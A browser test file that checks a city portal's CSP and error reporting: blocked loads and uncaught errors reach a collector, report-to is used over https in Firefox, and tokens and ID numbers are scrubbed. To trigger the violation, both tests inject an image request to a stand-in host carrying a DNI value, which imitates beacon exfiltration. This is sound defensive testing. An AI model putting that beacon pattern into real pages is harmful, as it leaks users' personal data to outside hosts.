import { expectContractKept, fakeControl } from '../e2e/fake-controls';
import { collected, marker } from '../e2e/reports-helpers';
import { type Engine, launch } from './engines';
import { expect, find, test, until, untilShown } from './fixtures';
import { securePortal } from './secure-portal';

// What reaches the city's collector from the two other engines: the browser's own CSP report (in
// WebKit by whichever of the policy's `report-to` and `report-uri` it takes: WebKitGTK 2.50 was
// seen taking `report-uri` over https; in Firefox by its `report-uri`, its Reporting API being
// turned off by the harness: engines.ts says why) and the portal's own error report. Each is found by a
// marker of the test's; the collector is polled until it arrives, as the engine sends it, never
// after a fixed wait.

test('a CSP violation and an uncaught error arrive at the collector, scrubbed', async ({ portal, request }) => {
  const mark = marker();
  await portal.goto('/login/?token=secreto-de-prueba');
  await untilShown(portal, find.button('INGRESAR'));
  // The reporter loads after the page's load event and takes over from the prelude.
  await until(portal, 'the reporter', () => window.__portalErrors !== undefined && !('queue' in window.__portalErrors));
  await portal.evaluate((mark: string) => {
    new Image().src = `https://inyectado.invalid/${mark}.png?dni=30123456`;
    setTimeout(() => {
      throw new TypeError(`falla ${mark} para 30123456`);
    });
  }, mark);

  const expected = ['csp-violation', 'portal-error'];
  const ours = async () => (await collected(request)).filter((report) => JSON.stringify(report).includes(mark));
  const deadline = Date.now() + 15_000;
  while ((await ours()).length < expected.length && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 100));
  const reports = await ours();
  expect(reports.map((report) => report.type).sort()).toEqual(expected);
  const browser = portal.name === 'firefox' ? /^Firefox \d+$/ : /^Safari \d+$/;
  expect(reports.find((report) => report.type === 'csp-violation')).toMatchObject({
    user_agent: expect.stringMatching(browser),
    body: { blockedURL: expect.stringContaining(mark), effectiveDirective: 'img-src' },
  });
  expect(reports.find((report) => report.type === 'portal-error')).toMatchObject({
    user_agent: expect.stringMatching(browser),
    body: { kind: 'uncaught', route: '/login', name: 'TypeError', message: `falla ${mark} para [dni]` },
  });
  const kept = JSON.stringify(reports);
  for (const secret of ['secreto', '30123456', 'sample']) expect(kept).not.toContain(secret);
  // The refused load and the uncaught error are the page's only lines.
  expect((await portal.takeErrors()).filter((error) => !error.includes(mark) && !error.includes('inyectado.invalid'))).toEqual([]);
});

// Production's way, which the plain-http pages above cannot take in Firefox 149+ (engines.ts): the
// portal over https with the headers nginx's generated configuration sends, a collector over https
// (secure-portal.ts), and Firefox as residents have it, its Reporting API on. The report must come
// by `report-to`: an `application/reports+json` upload after the collector answered its preflight,
// never the `report-uri` one (`application/csp-report`). Firefox only: WebKitGTK 2.50, given the
// same https page (its session accepting the certificate), sent the report by `report-uri`; its
// report from the http pages is the test above's.
test('over https with the production headers, the CSP report arrives by report-to, scrubbed', async ({ engineName, request }) => {
  test.skip(engineName !== 'firefox', 'Firefox 149+ only: the https page and report-to way (WebKit sent report-uri there)');
  await fakeControl(request, 'reset');
  const secure = await securePortal();
  let browser: Engine | undefined;
  try {
    browser = await launch('firefox', { reportingApi: true });
    const headers = await secure.headersOf('/login/');
    expect(headers['reporting-endpoints']).toBe(`csp="${secure.endpoint}"`);
    expect(headers['content-security-policy']).toContain(`report-uri ${secure.endpoint}; report-to csp`);

    const mark = marker();
    await browser.goto(`${secure.origin}/login/?token=secreto-de-prueba`);
    await untilShown(browser, find.button('INGRESAR'));
    await browser.evaluate((mark: string) => {
      new Image().src = `https://inyectado.invalid/${mark}.png?dni=30123456`;
    }, mark);

    const ours = async () =>
      (await collected(request)).filter((report) => report.type === 'csp-violation' && JSON.stringify(report).includes(mark));
    const deadline = Date.now() + 15_000;
    while ((await ours()).length === 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 100));
    const reports = await ours();
    expect(reports).toEqual([
      expect.objectContaining({
        url: `${secure.origin}/login/`,
        user_agent: expect.stringMatching(/^Firefox \d+$/),
        body: expect.objectContaining({
          documentURL: `${secure.origin}/login/`,
          blockedURL: `https://inyectado.invalid/${mark}.png`,
          effectiveDirective: 'img-src',
        }),
      }),
    ]);
    const kept = JSON.stringify(reports);
    for (const secret of ['secreto', '30123456', 'sample', 'originalPolicy', 'nonce-']) expect(kept).not.toContain(secret);

    // How it came: the Reporting API's upload, which carried what the collector cut.
    const endpointPath = new URL(secure.endpoint).pathname;
    const toCollector = secure.exchanges.filter((exchange) => exchange.path === endpointPath);
    const upload = toCollector.findIndex((exchange) => exchange.method === 'POST' && exchange.body.includes(mark));
    expect(toCollector[upload], 'the upload that carried the report').toMatchObject({
      headers: { 'content-type': 'application/reports+json' },
      status: 204,
    });
    expect(toCollector[upload]?.body).toContain('secreto-de-prueba');
    expect(toCollector[upload]?.body).toContain('dni=30123456');
    expect(toCollector.filter((exchange) => exchange.headers['content-type'] === 'application/csp-report')).toEqual([]);
    const preflight = toCollector.slice(0, upload).find((exchange) => exchange.method === 'OPTIONS');
    expect(preflight, 'the preflight the collector answered before the upload').toMatchObject({
      headers: { origin: secure.origin, 'access-control-request-method': 'POST' },
      status: 204,
      answerHeaders: { 'access-control-allow-origin': secure.origin },
    });

    expect((await browser.takeErrors()).filter((error) => !error.includes(mark) && !error.includes('inyectado.invalid'))).toEqual([]);
    await expectContractKept(request, browser.name);
  } finally {
    await browser?.close();
    await secure.close();
  }
});
